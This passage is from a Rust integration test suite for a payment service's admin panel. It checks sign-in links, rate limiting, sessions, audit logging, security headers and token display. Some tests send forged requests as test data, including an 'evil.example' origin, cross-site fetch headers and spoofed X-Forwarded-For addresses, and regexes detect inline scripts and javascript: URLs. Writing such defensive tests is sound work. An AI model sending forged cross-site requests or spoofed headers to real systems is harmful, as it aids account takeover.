            let form = [("csrf", csrf.as_str()), ("link", secret.as_str())];
            browser.post("/sign-in/link", &form).await.status
        }
    }))
    .await;
    assert_eq!(
        statuses.iter().filter(|status| **status == 303).count(),
        1,
        "{statuses:?}"
    );
    assert_eq!(
        statuses.iter().filter(|status| **status == 410).count(),
        9,
        "{statuses:?}"
    );
    assert_eq!(panel.sessions().await, 1);
}

/// Behind a trusted proxy (here: the test itself, on 127.0.0.1), the
/// sign-in limit per address and the audit log use the address the proxy
/// forwards, so one client's failures do not pause another's sign-in;
/// without the setting, `X-Forwarded-For` is the client's own say and
/// ignored.
async fn behind_a_trusted_proxy_each_client_has_its_own_address(backend: Backend) {
    let panel = Panel::start_with(backend, false, vec!["127.0.0.1".parse().unwrap()]).await;
    let sign_in_from = |address: &'static str, name: &'static str, password: &'static str| {
        let mut browser = panel.browser();
        async move {
            let csrf = browser.get("/sign-in").await.csrf();
            let base = browser.base.clone();
            let form = [
                ("csrf", csrf.as_str()),
                ("name", name),
                ("password", password),
            ];
            let page = browser
                .post_with(
                    "/sign-in",
                    &form,
                    &[("origin", base.as_str()), ("x-forwarded-for", address)],
                )
                .await;
            (page.status, browser)
        }
    };
    for name in ["guess-1", "guess-2", "guess-3", "guess-4", "guess-5"] {
        assert_eq!(
            sign_in_from("203.0.113.1", name, "wrong password!").await.0,
            401
        );
    }
    assert_eq!(sign_in_from("203.0.113.1", ADMIN, PASSWORD).await.0, 429);
    let (status, mut browser) = sign_in_from("203.0.113.2", ADMIN, PASSWORD).await;
    assert_eq!(status, 303, "another client is not paused");
    let failures = admin_sign_in_failure::Entity::find()
        .all(&panel.app.db)
        .await
        .unwrap();
    assert!(
        failures.iter().all(|f| f.address == "203.0.113.1"),
        "{failures:?}"
    );
    // The audit log keeps the forwarded address of the change.
    let csrf = browser.csrf().await;
    let base = browser.base.clone();
    browser
        .post_with(
            "/projects",
            &[("csrf", csrf.as_str()), ("name", "Forwarded")],
            &[
                ("origin", base.as_str()),
                ("x-forwarded-for", "203.0.113.2"),
            ],
        )
        .await
        .assert_status(303);
    let rows = panel.audit_rows().await;
    let created = rows
        .iter()
        .find(|row| row.action == "project.create" && row.actor == ADMIN)
        .expect("audited");
    assert_eq!(created.address.as_deref(), Some("203.0.113.2"));

    // Without trusted proxies the header changes nothing: the TCP peer
    // is paused whatever address it claims.
    let plain = Panel::start(backend, false).await;
    for n in 1..=5 {
        let mut browser = plain.browser();
        let csrf = browser.get("/sign-in").await.csrf();
        let name = format!("guess-{n}");
        let form = [
            ("csrf", csrf.as_str()),
            ("name", name.as_str()),
            ("password", "wrong password!"),
        ];
        let base = browser.base.clone();
        let page = browser
            .post_with(
                "/sign-in",
                &form,
                &[
                    ("origin", base.as_str()),
                    ("x-forwarded-for", "203.0.113.1"),
                ],
            )
            .await;
        page.assert_status(401);
    }
    let mut browser = plain.browser();
    let csrf = browser.get("/sign-in").await.csrf();
    let base = browser.base.clone();
    let form = [
        ("csrf", csrf.as_str()),
        ("name", ADMIN),
        ("password", PASSWORD),
    ];
    let page = browser
        .post_with(
            "/sign-in",
            &form,
            &[
                ("origin", base.as_str()),
                ("x-forwarded-for", "203.0.113.2"),
            ],
        )
        .await;
    page.assert_status(429);
}

// ---- sign-in links ----

async fn a_login_link_shows_a_button_then_signs_in_once(panel: Panel) {
    let secret = panel.login_link(ADMIN).await;
    let path = format!("/sign-in/link/{secret}");
    let mut browser = panel.browser();
    // Opening the link only shows a button; it can be opened again.
    for _ in 0..2 {
        let shown = browser.get(&path).await;
        shown.assert_status(200);
        assert!(shown.text.contains("<button"), "{}", shown.text);
        assert!(shown.text.contains(ADMIN), "{}", shown.text);
        assert!(
            shown.text.contains(r#"action="/sign-in/link""#),
            "{}",
            shown.text
        );
    }
    assert_eq!(panel.sessions().await, 0);
    let link = admin_login_link::Entity::find()
        .one(&panel.app.db)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(link.used_at, None, "opening the link does not use it");
    let lifetime = link.expires_at - link.created_at;
    assert!(
        (lifetime - Duration::minutes(15)).abs() < Duration::seconds(1),
        "a link lasts 15 minutes: {lifetime}"
    );

    let shown = browser.get(&path).await;
    let visitor = browser.other_cookie("masterpay_sign_in");
    assert!(visitor.is_some() && browser.cookie.is_none());
    let answer = browser
        .post(
            "/sign-in/link",
            &[("csrf", &shown.csrf()), ("link", &secret)],
        )
        .await;
    answer.assert_redirect("/");
    let session = answer
        .set_cookie("masterpay_session")
        .expect("a session cookie");
    assert_ne!(Some(session.value.clone()), visitor, "renewed at sign-in");
    assert_eq!(session.attribute("max-age"), Some("28800"));
    assert!(session.has("httponly"));
    let overview = browser.get("/").await;
    overview.assert_status(200);
    assert!(overview.text.contains(ADMIN), "{}", overview.text);
    assert_eq!(panel.sessions().await, 1);

    // Used: gone, whether opened or posted again, from any browser.
    let mut again = panel.browser();
    again.get(&path).await.assert_status(410);
    let csrf = again.get("/sign-in").await.csrf();
    let second = again
        .post("/sign-in/link", &[("csrf", &csrf), ("link", &secret)])
        .await;
    second.assert_status(410);
    assert!(second.set_cookie("masterpay_session").is_none());
    assert!(second.text.contains("cannot be used"), "{}", second.text);
    again.get("/").await.assert_sign_in_required();
    assert_eq!(panel.sessions().await, 1);
    // A made-up link is gone as well.
    again
        .get(&format!("/sign-in/link/{}", "x".repeat(43)))
        .await
        .assert_status(410);
}

async fn an_expired_login_link_is_gone(panel: Panel) {
    let secret = panel.login_link(ADMIN).await;
    let path = format!("/sign-in/link/{secret}");
    let mut browser = panel.browser();
    let shown = browser.get(&path).await;
    shown.assert_status(200);
    admin_login_link::Entity::update_many()
        .col_expr(
            admin_login_link::Column::ExpiresAt,
            Expr::value(Utc::now() - Duration::minutes(1)),
        )
        .exec(&panel.app.db)
        .await
        .unwrap();
    browser.get(&path).await.assert_status(410);
    let answer = browser
        .post(
            "/sign-in/link",
            &[("csrf", &shown.csrf()), ("link", &secret)],
        )
        .await;
    answer.assert_status(410);
    assert!(answer.set_cookie("masterpay_session").is_none());
    assert_eq!(panel.sessions().await, 0);
    browser.get("/").await.assert_sign_in_required();
}

async fn links_and_sessions_are_stored_as_sha256_only(panel: Panel) {
    let secret = panel.login_link(ADMIN).await;
    let links = admin_login_link::Entity::find()
        .all(&panel.app.db)
        .await
        .unwrap();
    assert_eq!(links.len(), 1);
    assert_eq!(links[0].link_hash, sha256_hex(&secret));
    assert_eq!(links[0].administrator_id, panel.admin_id);
    // Signed in by the link, and once more by password.
    let mut by_link = panel.browser();
    let csrf = by_link.get(&format!("/sign-in/link/{secret}")).await.csrf();
    by_link
        .post("/sign-in/link", &[("csrf", &csrf), ("link", &secret)])
        .await
        .assert_redirect("/");
    let by_password = panel.signed_in().await;
    let cookies = [
        by_link.cookie.clone().unwrap(),
        by_password.cookie.clone().unwrap(),
    ];
    let mut hashes: Vec<String> = admin_session::Entity::find()
        .all(&panel.app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|s| s.session_hash)
        .collect();
    hashes.sort();
    let mut expected: Vec<String> = cookies.iter().map(|c| sha256_hex(c)).collect();
    expected.sort();
    assert_eq!(hashes, expected);
    // Neither the link's secret, nor a cookie, nor the password is stored.
    let stored = panel.panel_tables_text().await;
    assert!(!stored.contains(&secret), "the link's secret is stored");
    for cookie in &cookies {
        assert!(!stored.contains(cookie.as_str()), "a cookie is stored");
    }
    assert!(!stored.contains(PASSWORD), "the password is stored");
}

// ---- CSRF and origin ----

async fn a_post_without_the_right_csrf_token_or_from_another_origin_changes_nothing(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let csrf = browser.csrf().await;
    // Another browser's token, signed in as the same administrator.
    let mut other = panel.signed_in().await;
    let others = other.csrf().await;
    assert_ne!(csrf, others, "tokens differ per browser");
    let count = panel.projects().await.len();
    let audit = panel.audit_rows().await.len();
    let origin = panel.base.clone();
    let zeros = "0".repeat(64);
    let refused: Vec<(&str, Fields, Fields)> = vec![
        (
            "no token",
            vec![("name", "Forged")],
            vec![("origin", &origin)],
        ),
        (
            "an empty token",
            vec![("csrf", ""), ("name", "Forged")],
            vec![("origin", &origin)],
        ),
        (
            "a wrong token",
            vec![("csrf", &zeros), ("name", "Forged")],
            vec![("origin", &origin)],
        ),
        (
            "another browser's token",
            vec![("csrf", &others), ("name", "Forged")],
            vec![("origin", &origin)],
        ),
        (
            "another origin",
            vec![("csrf", &csrf), ("name", "Forged")],
            vec![("origin", "http://evil.example")],
        ),
        (
            "an opaque origin",
            vec![("csrf", &csrf), ("name", "Forged")],
            vec![("origin", "null")],
        ),
        (
            "a cross-site fetch",
            vec![("csrf", &csrf), ("name", "Forged")],
            vec![("sec-fetch-site", "cross-site")],
        ),
        (
            "a same-site fetch from another origin",
            vec![("csrf", &csrf), ("name", "Forged")],
            vec![("origin", &origin), ("sec-fetch-site", "same-site")],
        ),
    ];
    for (what, form, headers) in &refused {
        let answer = browser.post_with("/projects", form, headers).await;
        assert_eq!(answer.status, 403, "{what}: {}", answer.text);
        assert!(answer.text.contains("Refused"), "{what}: {}", answer.text);
        assert_eq!(
            panel.projects().await.len(),
            count,
            "{what} created a project"
        );
    }
    // The token is also checked on rename and disable.
    let id = panel.app.project_id;
    for (path, field) in [
        (format!("/projects/{id}/rename"), ("name", "Forged")),
        (format!("/projects/{id}/active"), ("active", "false")),
    ] {
        let answer = browser.post(&path, &[("csrf", &others), field]).await;
        answer.assert_status(403);
    }
    let projects = panel.projects().await;
    assert!(projects.iter().all(|p| p.name != "Forged" && p.active));
    assert_eq!(panel.audit_rows().await.len(), audit);
    // With the right token and origin: created.
    let answer = browser
        .post_with(
            "/projects",
            &[("csrf", &csrf), ("name", "Genuine")],
            &[("origin", &origin), ("sec-fetch-site", "same-origin")],
        )
        .await;
    assert_eq!(answer.status, 303, "{}", answer.text);
    let after = panel.projects().await;
    assert_eq!(after.len(), count + 1);
    let created = after.last().unwrap();
    assert_eq!(created.name, "Genuine");
    assert_eq!(
        answer.header("location"),
        Some(&*format!("/projects/{}", created.id))
    );
    // Chromium's own forms under `Referrer-Policy: no-referrer` send
    // `Origin: null` with `Sec-Fetch-Site: same-origin`: accepted with the
    // right token, refused with another browser's.
    let chromium = [("origin", "null"), ("sec-fetch-site", "same-origin")];
    let answer = browser
        .post_with(
            "/projects",
            &[("csrf", &others), ("name", "Forged")],
            &chromium,
        )
        .await;
    answer.assert_status(403);
    let answer = browser
        .post_with(
            "/projects",
            &[("csrf", &csrf), ("name", "From Chromium")],
            &chromium,
        )
        .await;
    assert_eq!(answer.status, 303, "{}", answer.text);
    let names: Vec<String> = panel.projects().await.into_iter().map(|p| p.name).collect();
    assert_eq!(names.len(), count + 2);
    assert!(names.contains(&"From Chromium".to_owned()) && !names.contains(&"Forged".to_owned()));
}

/// Form fields or headers, as name/value pairs.
type Fields<'a> = Vec<(&'a str, &'a str)>;

// ---- headers ----

/// Asserts the security headers every answer of the panel carries, and that
/// an HTML page holds no inline script or style (which the policy forbids).
#[track_caller]
fn assert_secure_answer(what: &str, page: &Page) {
    let csp = page
        .header("content-security-policy")
        .unwrap_or_else(|| panic!("{what}: no Content-Security-Policy"));
    assert!(!csp.contains("unsafe-inline"), "{what}: {csp}");
    assert!(!csp.contains("unsafe-eval"), "{what}: {csp}");
    assert!(!csp.contains('*') && !csp.contains("http"), "{what}: {csp}");
    for directive in [
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        "frame-ancestors 'none'",
        "form-action 'self'",
    ] {
        assert!(csp.contains(directive), "{what}: {csp} lacks {directive}");
    }
    assert_eq!(page.header("cache-control"), Some("no-store"), "{what}");
    assert_eq!(page.header("x-frame-options"), Some("DENY"), "{what}");
    assert_eq!(
        page.header("referrer-policy"),
        Some("no-referrer"),
        "{what}"
    );
    assert_eq!(
        page.header("x-content-type-options"),
        Some("nosniff"),
        "{what}"
    );
    if page
        .header("content-type")
        .is_some_and(|t| t.starts_with("text/html"))
    {
        let html = page.text.to_lowercase();
        let scripts = Regex::new(r"<script[^>]*>").unwrap();
        for tag in scripts.find_iter(&html) {
            assert!(
                tag.as_str().contains("src="),
                "{what}: inline script {}",
                tag.as_str()
            );
        }
        assert!(!html.contains("<style"), "{what}: inline style element");
        assert!(!html.contains(" style="), "{what}: inline style attribute");
        let handlers = Regex::new(r#"\son[a-z]+\s*="#).unwrap();
        assert!(!handlers.is_match(&html), "{what}: inline event handler");
        assert!(!html.contains("javascript:"), "{what}: javascript: URL");
    }
}

async fn every_answer_carries_the_security_headers(panel: Panel) {
    let id = panel.app.project_id;
    let mut anonymous = panel.browser();
    for path in [
        "/sign-in",
        "/",
        "/projects",
        "/no-such-page",
        "/assets/panel.css",
        "/assets/panel.js",
    ] {
        let page = anonymous.get(path).await;
        assert_secure_answer(path, &page);
    }
    let wrong = anonymous.sign_in(ADMIN, "wrong password!").await;
    assert_secure_answer("a refused sign-in", &wrong);
    let secret = panel.login_link(ADMIN).await;
    let link = anonymous.get(&format!("/sign-in/link/{secret}")).await;
    link.assert_status(200);
    assert_secure_answer("a sign-in link", &link);

    let mut browser = panel.signed_in().await;
    for path in [
        "/".to_owned(),
        "/projects".to_owned(),
        format!("/projects/{id}"),
        "/projects/999999".to_owned(),
        "/sign-in".to_owned(),
    ] {
        let page = browser.get(&path).await;
        assert!(page.status < 500, "{path}: {}", page.status);
        assert_secure_answer(&path, &page);
    }
    let csrf = browser.csrf().await;
    let invalid = browser
        .post("/projects", &[("csrf", &csrf), ("name", "")])
        .await;
    invalid.assert_status(422);
    assert_secure_answer("a refused form", &invalid);
    let forbidden = browser.post("/projects", &[("name", "x")]).await;
    forbidden.assert_status(403);
    assert_secure_answer("a refused POST", &forbidden);
    let created = browser
        .post("/projects", &[("csrf", &csrf), ("name", "Headers")])
        .await;
    created.assert_status(303);
    assert_secure_answer("a redirect", &created);
}

// ---- ending sessions ----

async fn sign_out_ends_the_session(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let cookie = browser.cookie.clone().unwrap();
    let csrf = browser.csrf().await;
    // Signing out is a form like any other: not without its token.
    browser.post("/sign-out", &[]).await.assert_status(403);
    browser.get("/").await.assert_status(200);
    let answer = browser.post("/sign-out", &[("csrf", &csrf)]).await;
    answer.assert_redirect("/sign-in");
    let cleared = answer
        .set_cookie("masterpay_session")
        .expect("the cookie is cleared");
    assert_eq!(cleared.attribute("max-age"), Some("0"), "{cleared:?}");
    assert_eq!(panel.sessions().await, 0);
    browser.get("/").await.assert_sign_in_required();
    // The old cookie, kept by someone, is worth nothing.
    let mut kept = panel.browser();
    kept.cookie = Some(cookie);
    for path in ["/", "/projects"] {
        kept.get(path).await.assert_sign_in_required();
    }
    let count = panel.projects().await.len();
    kept.post("/projects", &[("csrf", &csrf), ("name", "After sign-out")])
        .await
        .assert_sign_in_required();
    assert_eq!(panel.projects().await.len(), count);
}

async fn an_expired_session_is_signed_out(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let mut other = panel.signed_in().await;
    let csrf = browser.csrf().await;
    // Only the first browser's session expires.
    let hash = sha256_hex(browser.cookie.as_deref().unwrap());
    admin_session::Entity::update_many()
        .col_expr(
            admin_session::Column::ExpiresAt,
            Expr::value(Utc::now() - Duration::seconds(1)),
        )
        .filter(admin_session::Column::SessionHash.eq(hash))
        .exec(&panel.app.db)
        .await
        .unwrap();
    browser.get("/").await.assert_sign_in_required();
    browser.get("/projects").await.assert_sign_in_required();
    let count = panel.projects().await.len();
    browser
        .post("/projects", &[("csrf", &csrf), ("name", "Expired")])
        .await
        .assert_sign_in_required();
    assert_eq!(panel.projects().await.len(), count);
    // The sign-in page offers to sign in again.
    browser.get("/sign-in").await.assert_status(200);
    other.get("/").await.assert_status(200);
}

async fn a_disabled_administrator_cannot_sign_in_and_is_signed_out(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let csrf = browser.csrf().await;
    let link = panel.login_link(ADMIN).await;
    panel.administrator("colleague").await;
    let mut colleague = panel.browser();
    colleague
        .sign_in("colleague", PASSWORD)
        .await
        .assert_redirect("/");

    admins::set_active(&panel.app.db, &Actor::CommandLine, ADMIN, false)
        .await
        .expect("disable");
    // The open session ends at once.
    browser.get("/").await.assert_sign_in_required();
    let count = panel.projects().await.len();
    browser
        .post("/projects", &[("csrf", &csrf), ("name", "Disabled")])
        .await
        .assert_sign_in_required();
    assert_eq!(panel.projects().await.len(), count);
    // Signing in again is refused, like a wrong password.
    let mut again = panel.browser();
    let answer = again.sign_in(ADMIN, PASSWORD).await;
    answer.assert_status(401);
    assert!(
        answer.text.contains("wrong name or password"),
        "{}",
        answer.text
    );
    assert!(answer.set_cookie("masterpay_session").is_none());
    again.get("/").await.assert_sign_in_required();
    // So is a sign-in link made before.
    again
        .get(&format!("/sign-in/link/{link}"))
        .await
        .assert_status(410);
    let csrf_again = again.get("/sign-in").await.csrf();
    again
        .post("/sign-in/link", &[("csrf", &csrf_again), ("link", &link)])
        .await
        .assert_status(410);
    // Only the colleague's session is left.
    let sessions = admin_session::Entity::find()
        .all(&panel.app.db)
        .await
        .unwrap();
    assert_eq!(sessions.len(), 1);
    assert_ne!(sessions[0].administrator_id, panel.admin_id);
    colleague.get("/").await.assert_status(200);
    // Enabled again, the administrator signs in (the refusal was theirs).
    admins::set_active(&panel.app.db, &Actor::CommandLine, ADMIN, true)
        .await
        .expect("enable");
    again.sign_in(ADMIN, PASSWORD).await.assert_redirect("/");
    // A link made before the administrator was disabled stays dead.
    let mut late = panel.browser();
    late.get(&format!("/sign-in/link/{link}"))
        .await
        .assert_status(410);
    let csrf_late = late.get("/sign-in").await.csrf();
    late.post("/sign-in/link", &[("csrf", &csrf_late), ("link", &link)])
        .await
        .assert_status(410);
    late.get("/").await.assert_sign_in_required();
}

// ---- listeners ----

async fn the_panel_listener_does_not_answer_the_api(panel: Panel) {
    let app = &panel.app;
    let user = app.user("player@example.com").await;
    app.set_balance(user, None, "12.34", "0").await;
    let token = app.full_token().await;
    let query = format!("server_id=0&user_id={user}");
    // The API listener answers it...
    let api = app.get_balance(Some(&token), &query).await;
    assert_eq!(api.status, 200, "{}", api.text);
    // ...the panel's does not, signed in or not.
    let mut anonymous = panel.browser();
    let mut browser = panel.signed_in().await;
    for b in [&mut anonymous, &mut browser] {
        let path = format!("/v2/master-account/balance?{query}");
        let req = b.http.get(format!("{}{path}", b.base)).bearer_auth(&token);
        let answer = b.send(req).await;
        assert_eq!(answer.status, 404, "{}", answer.text);
        assert!(
            answer
                .header("content-type")
                .is_some_and(|t| t.starts_with("text/html")),
            "{:?}",
            answer.header("content-type")
        );
        assert!(!answer.text.contains("12.34"), "{}", answer.text);
        assert!(serde_json::from_str::<Value>(&answer.text).is_err());
        let req = b
            .http
            .post(format!("{}/v2/payment/order/create", b.base))
            .bearer_auth(&token)
            .json(&json!({"user_id": user, "server_id": 0, "amount": "1.00", "payment_system": "card"}));
        let answer = b.send(req).await;
        assert_eq!(answer.status, 404, "{}", answer.text);
        let req = b.http.get(format!("{}/openapi.json", b.base));
        assert_eq!(b.send(req).await.status, 404);
    }
    assert_eq!(app.count("SELECT COUNT(*) FROM payment_orders").await, 0);
}

async fn the_api_listener_does_not_answer_the_panel(panel: Panel) {
    let app = &panel.app;
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    for path in [
        "/",
        "/sign-in",
        "/projects",
        "/audit-log",
        "/assets/panel.css",
    ] {
        let res = client.get(app.url(path)).send().await.unwrap();
        assert_eq!(res.status(), 404, "{path} on the API listener");
        assert!(res.headers().get("set-cookie").is_none(), "{path}");
        let text = res.text().await.unwrap();
        assert!(
            !text.contains("<form") && !text.contains("csrf"),
            "{path}: {text}"
        );
    }
    let res = client
        .post(app.url("/sign-in"))
        .form(&[("name", ADMIN), ("password", PASSWORD)])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 404);
    assert!(res.headers().get("set-cookie").is_none());
    assert_eq!(panel.sessions().await, 0);
}

// ---- the admin audit log ----

async fn project_actions_each_write_one_audit_row(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let created = browser
        .submit("/projects", "/projects", &[("name", "Audited")])
        .await;
    assert_eq!(created.status, 303, "{}", created.text);
    let id = panel.projects().await.last().unwrap().id;
    assert_eq!(
        created.header("location"),
        Some(&*format!("/projects/{id}"))
    );
    let object = id.to_string();
    panel.check_row(
        &panel.audit_of("project.create", &object).await,
        None,
        Some(json!({"name": "Audited", "active": true})),
    );
    let page = format!("/projects/{id}");
    browser
        .submit(
            &page,
            &format!("/projects/{id}/rename"),
            &[("name", "Audited twice")],
        )
        .await
        .assert_redirect(&page);
    panel.check_row(
        &panel.audit_of("project.rename", &object).await,
        Some(json!({"name": "Audited", "active": true})),
        Some(json!({"name": "Audited twice", "active": true})),
    );
    browser
        .submit(
            &page,
            &format!("/projects/{id}/active"),
            &[("active", "false")],
        )
        .await
        .assert_redirect(&page);
    panel.check_row(
        &panel.audit_of("project.disable", &object).await,
        Some(json!({"name": "Audited twice", "active": true})),
        Some(json!({"name": "Audited twice", "active": false})),
    );
    browser
        .submit(
            &page,
            &format!("/projects/{id}/active"),
            &[("active", "true")],
        )
        .await
        .assert_redirect(&page);
    panel.check_row(
        &panel.audit_of("project.enable", &object).await,
        Some(json!({"name": "Audited twice", "active": false})),
        Some(json!({"name": "Audited twice", "active": true})),
    );
    let project = panel
        .projects()
        .await
        .into_iter()
        .find(|p| p.id == id)
        .unwrap();
    assert_eq!(
        (project.name.as_str(), project.active),
        ("Audited twice", true)
    );
    // Four changes, four rows by the administrator (besides the command
    // line's own).
    let mine = panel
        .audit_rows()
        .await
        .into_iter()
        .filter(|r| r.administrator_id == Some(panel.admin_id))
        .count();
    assert_eq!(mine, 4);
}

async fn an_empty_project_name_is_refused_next_to_its_field(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let count = panel.projects().await.len();
    let audit = panel.audit_rows().await.len();
    let answer = browser
        .submit("/projects", "/projects", &[("name", "   ")])
        .await;
    answer.assert_status(422);
    let error = answer
        .field_error("name")
        .expect("an error next to the name");
    assert!(!error.trim().is_empty());
    assert!(answer.text.contains(r#"aria-invalid="true""#));
    assert_eq!(panel.projects().await.len(), count);
    let id = panel.app.project_id;
    let page = format!("/projects/{id}");
    let answer = browser
        .submit(&page, &format!("/projects/{id}/rename"), &[("name", "")])
        .await;
    answer.assert_status(422);
    assert!(answer.field_error("name").is_some(), "{}", answer.text);
    assert_eq!(
        panel
            .projects()
            .await
            .into_iter()
            .find(|p| p.id == id)
            .unwrap()
            .name,
        "Test project"
    );
    assert_eq!(panel.audit_rows().await.len(), audit);
}

// ---- what the pages need: seeded data and snapshots ----

/// Objects of the test project, made through the service (the command
/// line's code), for the pages that show them.
struct Seeded {
    token_id: i64,
    user_id: i64,
    order_id: String,
}

impl Panel {
    async fn seed(&self) -> Seeded {
        let app = &self.app;
        let (token_id, _) = app.token(&[Permission::Balance]).await;
        let user_id = app.user("seeded@example.com").await;
        let order_id = app.order(user_id, None, "10.00", "cstm:paygate").await;
        Seeded {
            token_id,
            user_id,
            order_id,
        }
    }

    /// Every row a panel action could change, as text: equal snapshots
    /// mean nothing changed.
    async fn snapshot(&self) -> String {
        use entity::{
            app_token, balance, operation_log, payment_order, project, server, token_permission,
            user,
        };
        let db = &self.app.db;
        // A token's last use is recorded after its request is answered, in
        // the background: it is the API's bookkeeping, not a form's change.
        let mut tokens = app_token::Entity::find().all(db).await.unwrap();
        for token in &mut tokens {
            token.last_used_at = None;
        }
        format!(
            "{:?}\n{:?}\n{:?}\n{:?}\n{:?}\n{:?}\n{:?}\n{:?}\n{:?}\n{:?}",
            project::Entity::find().all(db).await.unwrap(),
            tokens,
            token_permission::Entity::find().all(db).await.unwrap(),
            user::Entity::find().all(db).await.unwrap(),
            server::Entity::find().all(db).await.unwrap(),
            balance::Entity::find().all(db).await.unwrap(),
            payment_order::Entity::find().all(db).await.unwrap(),
            operation_log::Entity::find().all(db).await.unwrap(),
            admin_audit_entry::Entity::find().all(db).await.unwrap(),
            administrator::Entity::find().all(db).await.unwrap(),
        )
    }

    async fn token_row(&self, id: i64) -> Option<entity::app_token::Model> {
        entity::app_token::Entity::find_by_id(id)
            .one(&self.app.db)
            .await
            .unwrap()
    }

    /// Every page of the panel that needs a session, for `seeded`.
    fn pages(&self, seeded: &Seeded) -> Vec<String> {
        let id = self.app.project_id;
        let Seeded {
            token_id,
            user_id,
            order_id,
        } = seeded;
        vec![
            "/".to_owned(),
            "/projects".to_owned(),
            format!("/projects/{id}"),
            format!("/projects/{id}/tokens"),
            format!("/projects/{id}/tokens/new"),
            format!("/projects/{id}/tokens/new?like={token_id}"),
            format!("/tokens/{token_id}"),
            format!("/projects/{id}/users"),
            format!("/projects/{id}/users?q=seeded"),
            format!("/users/{user_id}"),
            "/orders".to_owned(),
            format!("/orders?project={id}&status=pending"),
            format!("/orders/{id}/{order_id}"),
            "/ledger".to_owned(),
            "/ledger/audit".to_owned(),
            "/audit-log".to_owned(),
            "/audit-log?action=project".to_owned(),
            "/audit-log.csv".to_owned(),
            "/account".to_owned(),
            format!("/projects/{id}/webhooks"),
            format!("/projects/{id}/events"),
            format!("/projects/{id}/events?type=order.created&status=pending"),
        ]
    }
}

/// The token value a token's page shows, when it shows one.
fn shown_value(page: &Page) -> Option<String> {
    let re = Regex::new(r#"id="token-value"[^>]*>\s*([A-Za-z0-9]{64})\s*<"#).unwrap();
    re.captures(&page.text).map(|c| c[1].to_owned())
}

/// The answer `shown` to a token's creation or reissue: the token's page
/// with the value exactly once, not stored, in no cookie; a reload (a GET
/// of the address the page puts in the history) no longer shows it.
async fn value_shown_once(browser: &mut Browser, shown: &Page, token_id: i64) -> String {
    let path = format!("/tokens/{token_id}");
    shown.assert_status(200);
    assert!(
        shown.text.contains(&format!(r#"data-address="{path}""#)),
        "{}",
        shown.text
    );
    let value = shown_value(shown).unwrap_or_else(|| panic!("no value shown: {}", shown.text));
    assert_eq!(
        shown.text.matches(&value).count(),
        1,
        "shown once on the page"
    );
    assert_eq!(
        shown.header("cache-control"),
        Some("no-store"),
        "the page with the value is not cached"
    );
    assert!(
        shown.headers.get(reqwest::header::SET_COOKIE).is_none(),
        "no cookie: {:?}",
        shown.headers
    );
    let reloaded = browser.get(&path).await;
    reloaded.assert_status(200);
    assert!(!reloaded.text.contains(&value), "a reload shows the value");
    assert!(shown_value(&reloaded).is_none());
    assert!(
        reloaded.text.contains("cannot be shown again"),
        "a reload says the value is gone: {}",
        reloaded.text
    );
    value
}

// ---- pages and forms of every kind need a session ----

async fn every_page_needs_a_session(panel: Panel) {
    let seeded = panel.seed().await;
    let mut fresh = panel.browser();
    let mut visitor = panel.browser();
    visitor.get("/sign-in").await.assert_status(200);
    for page in panel.pages(&seeded) {
        for browser in [&mut fresh, &mut visitor] {
            let answer = browser.get(&page).await;
            answer.assert_sign_in_required();
            assert!(!answer.text.contains("seeded@example.com"), "{page}");
        }
    }
    let mut browser = panel.signed_in().await;
    for page in panel.pages(&seeded) {
        let answer = browser.get(&page).await;
        assert_eq!(answer.status, 200, "{page}: {}", answer.text);
        assert_secure_answer(&page, &answer);
    }
}

async fn every_form_needs_a_session(panel: Panel) {
    let seeded = panel.seed().await;
    let id = panel.app.project_id;
    let Seeded {
        token_id,
        user_id,
        order_id,
    } = &seeded;
    let before = panel.snapshot().await;
    let mut visitor = panel.browser();
    let csrf = visitor.get("/sign-in").await.csrf();
    let posts: Vec<(String, Vec<(&str, &str)>)> = vec![
        (
            format!("/projects/{id}/tokens"),
            vec![("name", "Sneaky"), ("permission", "master-account/balance")],
        ),
        (
            format!("/tokens/{token_id}/edit"),
            vec![("name", "Sneaky"), ("permission", "payment/order/complete")],
        ),
        (
            format!("/tokens/{token_id}/active"),
            vec![("active", "false")],
        ),
        (
            format!("/tokens/{token_id}/reissue"),
            vec![("grace_hours", "0")],
        ),
        (
            format!("/tokens/{token_id}/delete"),
            vec![("confirm_name", "test")],
        ),
        (
            format!("/projects/{id}/users"),
            vec![("email", "sneaky@example.com")],
        ),
        (
            format!("/projects/{id}/servers"),
            vec![("server_name", "Sneaky")],
        ),
        (
            format!("/users/{user_id}/balance"),
            vec![("server", "0"), ("main", "999.00"), ("reason", "sneaky")],
        ),
        (
            "/orders".to_owned(),
            vec![
                ("project", "1"),
                ("user", "1"),
                ("server", "0"),
                ("amount", "5"),
                ("payment_system", "cstm:panel"),
            ],
        ),
        (format!("/orders/{id}/{order_id}/cancel"), vec![]),
        (format!("/orders/{id}/{order_id}/complete"), vec![]),
        ("/ledger/audit".to_owned(), vec![]),
        (
            "/account/password".to_owned(),
            vec![
                ("password", "a sneaky new password"),
                ("password_again", "a sneaky new password"),
            ],
        ),
    ];
    for (path, fields) in &posts {
        let mut form = vec![("csrf", csrf.as_str())];
        form.extend_from_slice(fields);
        visitor.post(path, &form).await.assert_sign_in_required();
    }
    assert_eq!(
        panel.snapshot().await,
        before,
        "a form without a session changed something"
    );
}

// ---- tokens ----

async fn a_token_value_is_shown_once_after_creation_and_after_reissue(panel: Panel) {
    let app = &panel.app;
    let pid = app.project_id;
    let user = app.user("player@example.com").await;
    app.set_balance(user, None, "7.25", "0").await;
    let balance_query = format!("server_id=0&user_id={user}");
    let mut browser = panel.signed_in().await;
    let created = browser
        .submit(
            &format!("/projects/{pid}/tokens/new"),
            &format!("/projects/{pid}/tokens"),
            &[
                ("name", "Shop"),
                ("description", "the shop's game panel"),
                ("permission", "master-account/balance"),
            ],
        )
        .await;
    let token = entity::app_token::Entity::find()
        .filter(entity::app_token::Column::Name.eq("Shop"))
        .one(&app.db)
        .await
        .unwrap()
        .expect("the token");
    let tid = token.id;
    let page = format!("/tokens/{tid}");
    assert_eq!(token.created_by.as_deref(), Some(ADMIN));
